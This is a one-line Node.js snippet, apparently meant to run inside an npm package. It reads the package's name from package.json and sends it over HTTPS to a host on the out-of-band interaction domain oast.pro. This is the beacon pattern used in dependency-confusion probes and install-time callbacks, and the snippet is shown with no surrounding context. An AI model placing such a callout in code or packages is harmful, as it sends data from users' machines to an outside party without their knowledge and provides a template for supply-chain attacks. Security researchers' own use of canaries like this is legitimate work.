require('https').get('https://inert-000.oast.pro/' + require('./package.json').name)
